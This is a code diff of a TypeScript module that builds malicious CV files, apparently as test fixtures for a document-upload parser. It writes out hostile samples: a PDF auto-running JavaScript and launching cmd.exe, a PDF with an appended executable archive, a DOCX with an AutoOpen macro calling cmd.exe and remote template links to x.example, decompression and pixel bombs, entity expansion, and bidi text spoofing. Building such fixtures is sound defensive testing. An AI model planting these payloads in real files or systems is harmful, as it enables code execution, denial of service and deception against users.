@@ -1,4 +1,4 @@
-import { deflateSync } from 'node:zlib';
+import { crc32, deflateSync } from 'node:zlib';
 import { zipSync } from 'fflate';
 
 // CVs that were made to do harm. Each is small; what it unpacks to, or leads to, is not.
@@ -7,13 +7,13 @@ const PAGES = '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n';
 
 type PdfPart = string | Uint8Array;
 
-function pdf(...parts: readonly PdfPart[]): Buffer {
+export function pdf(...parts: readonly PdfPart[]): Buffer {
   const body = parts.map((part) => Buffer.from(part));
   const trailer = Buffer.from('trailer<</Root 1 0 R/Size 99>>\n%%EOF\n');
   return Buffer.concat([Buffer.from('%PDF-1.7\n'), ...body, trailer]);
 }
 
-function stream(dictionary: string, bytes: Uint8Array): Buffer {
+export function stream(dictionary: string, bytes: Uint8Array): Buffer {
   const head = `<<${dictionary}/Length ${bytes.length}>>stream\n`;
   return Buffer.concat([Buffer.from(head), bytes, Buffer.from('\nendstream ')]);
 }
@@ -23,7 +23,7 @@ const PAGE =
   '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>endobj\n';
 
 /** One page whose content is given, with what the catalogue says beside it. */
-function onePage(content: Uint8Array, { catalogue = '', filter = '' } = {}): Buffer {
+export function onePage(content: Uint8Array, { catalogue = '', filter = '' } = {}): Buffer {
   return pdf(
     `1 0 obj<</Type/Catalog/Pages 2 0 R${catalogue}>>endobj\n`,
     PAGES,
@@ -35,13 +35,45 @@ function onePage(content: Uint8Array, { catalogue = '', filter = '' } = {}): Buf
   );
 }
 
-const SHOWN = Buffer.from(
+export const SHOWN = Buffer.from(
   'BT /F1 12 Tf 50 700 Td (Ana Ruiz Soto) Tj 0 -20 Td (Tel. 55 1234 5678) Tj ET',
 );
 
 /** A page on which nothing is written, as that of a scan. */
 export function pdfWithoutText(): Buffer {
   return onePage(Buffer.from('0 0 9 9 re f'));
+}
+
+interface ScanOptions {
+  /** Of the picture, in pixels. */
+  readonly width: number;
+  readonly height: number;
+  readonly pages: number;
+  /** What the app that scanned it wrote on each page. */
+  readonly stamp?: string;
+}
+
+/** Pages that each are the same picture, as scanners make them. */
+export function pdfOfScan(
+  jpeg: Uint8Array,
+  { width, height, pages, stamp = '' }: ScanOptions,
+): Buffer {
+  const numbers = Array.from({ length: pages }, (_, index) => 10 + index);
+  const image = `/Type/XObject/Subtype/Image/Width ${width}/Height ${height}/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/DCTDecode`;
+  return pdf(
+    '1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n',
+    `2 0 obj<</Type/Pages/Kids[${numbers.map((number) => `${number} 0 R`).join(' ')}]/Count ${pages}>>endobj\n`,
+    ...numbers.map(
+      (number) =>
+        `${number} 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</X 6 0 R>>/Font<</F1 5 0 R>>>>>>endobj\n`,
+    ),
+    FONT,
+    '4 0 obj',
+    stream('', Buffer.from(`q 595 0 0 842 0 0 cm /X Do Q BT /F1 9 Tf 400 20 Td (${stamp}) Tj ET`)),
+    'endobj\n6 0 obj',
+    stream(image, jpeg),
+    'endobj\n',
+  );
 }
 
 /** A stream that unpacks to very much. */
@@ -70,6 +102,12 @@ export function pdfWithScript(): Buffer {
   const catalogue =
     '/OpenAction<</S/JavaScript/JS(while(true){app.alert(1)})>>/AA<</WC<</S/Launch/F(cmd.exe)>>>>';
   return onePage(SHOWN, { catalogue });
+}
+
+/** A PDF that is also an archive with a program in it. */
+export function pdfArchive(): Buffer {
+  const archive = zipSync({ 'instalar.exe': new TextEncoder().encode('MZ') });
+  return Buffer.concat([onePage(SHOWN), archive]);
 }
 
 /** A PDF that is also a page of the web. */
@@ -120,20 +158,29 @@ const RELATIONS =
   '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>';
 const NAMESPACE = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
 
+interface DocxOptions {
+  /** Before the document's XML. */
+  readonly prologue?: string;
+  /** Content by path, beside the usual parts. */
+  readonly parts?: Readonly<Record<string, string>>;
+}
+
 /** @param body of the document's XML */
-function docx(body: string, { prologue = '' } = {}): Buffer {
+export function docx(body: string, { prologue = '', parts = {} }: DocxOptions = {}): Buffer {
   const text = (content: string) => new TextEncoder().encode(content);
+  const others = Object.entries(parts).map(([path, content]) => [path, text(content)] as const);
   const document = `<?xml version="1.0"?>${prologue}<w:document ${NAMESPACE}><w:body>${body}</w:body></w:document>`;
   return Buffer.from(
     zipSync({
       '[Content_Types].xml': text(CONTENT_TYPES),
       '_rels/.rels': text(RELATIONS),
       'word/document.xml': text(document),
+      ...Object.fromEntries(others),
     }),
   );
 }
 
-function paragraph(text: string): string {
+export function paragraph(text: string): string {
   return `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
 }
 
@@ -152,6 +199,18 @@ export function docxEntities(): Buffer {
   return docx(`${paragraph('&e11;')}${paragraph('&f;')}`, { prologue });
 }
 
+/** Macros, a template and a picture that lie on another server, beside text. */
+export function docxWithMacros(): Buffer {
+  const relationship = (id: string, type: string) =>
+    `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="http://x.example/${type}" TargetMode="External"/>`;
+  return docx(paragraph('Ana Ruiz Soto') + paragraph('Tel. 55 1234 5678'), {
+    parts: {
+      'word/vbaProject.bin': 'Sub AutoOpen()\nShell "cmd.exe"\nEnd Sub',
+      'word/_rels/document.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship('r2', 'attachedTemplate')}${relationship('r3', 'image')}</Relationships>`,
+    },
+  });
+}
+
 /** Tables in tables, deeper than any stack. */
 export function docxNested(): Buffer {
   const depth = 20_000;
@@ -162,4 +221,37 @@ export function docxNested(): Buffer {
 /** Text that is turned round so that it looks like another. */
 export function rightToLeft(): Buffer {
   return Buffer.from('Nombre: \u202eotoS ziuR anA\u202c\u200b\nTel. 55\u200f 1234\u2066 5678\n');
+}
+
+/** A picture of a few kilobytes that unpacks to as many pixels as the largest that is read. */
+export function pictureFlood(): Buffer {
+  const side = 10_900;
+  return blackPng(side, Buffer.alloc(side * (1 + Math.ceil(side / 8))));
+}
+
+/** A PNG that says of itself that it has more pixels than memory holds. */
+export function pictureOfLies(): Buffer {
+  return blackPng(60_000, Buffer.alloc(1000));
+}
+
+/** Square, of one bit for each pixel. @param rows each after the number of its filter */
+function blackPng(side: number, rows: Buffer): Buffer {
+  const header = Buffer.alloc(13);
+  header.writeUInt32BE(side, 0);
+  header.writeUInt32BE(side, 4);
+  header.writeUInt8(1, 8);
+  return Buffer.concat([
+    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
+    pngChunk('IHDR', header),
+    pngChunk('IDAT', deflateSync(rows)),
+    pngChunk('IEND', Buffer.alloc(0)),
+  ]);
+}
+
+export function pngChunk(type: string, bytes: Buffer): Buffer {
+  const named = Buffer.concat([Buffer.from(type), bytes]);
+  const [length, checksum] = [Buffer.alloc(4), Buffer.alloc(4)];
+  length.writeUInt32BE(bytes.length);
+  checksum.writeUInt32BE(crc32(named));
+  return Buffer.concat([length, named, checksum]);
 }
